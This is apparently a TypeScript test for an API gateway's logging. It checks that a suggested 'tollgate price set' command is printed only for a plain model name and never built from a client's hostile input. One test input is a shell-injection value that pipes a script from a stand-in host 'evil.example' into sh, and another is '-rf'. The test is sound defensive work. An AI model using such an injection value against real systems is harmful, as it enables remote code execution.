// Tests what the log says of models without a price that clients ask for.

import { expect, test } from 'bun:test'
import { startGateway } from '../support/gateway.ts'
import { chatBody } from '../support/scene.ts'

test('a command to copy is offered for a plain name, and never with a client’s own words', async () => {
  await using gateway = await startGateway({
    config: {
      models: { '*': {} },
      channels: [
        { id: 'any', vendor: 'openai-compatible', baseUrl: 'http://127.0.0.1:9', models: ['*'] },
      ],
    },
  })
  for (const model of ["x'; curl evil.example|sh; '", '-rf', 'acme/plain-1:free'])
    expect((await gateway.post('/v1/chat/completions', { ...chatBody, model })).status).toBe(503)
  await gateway.logged("tollgate price set 'acme/plain-1:free' input=")
  expect(gateway.stderr).toContain('curl evil.example')
  expect(gateway.stderr.split('tollgate price set')).toHaveLength(2)
})
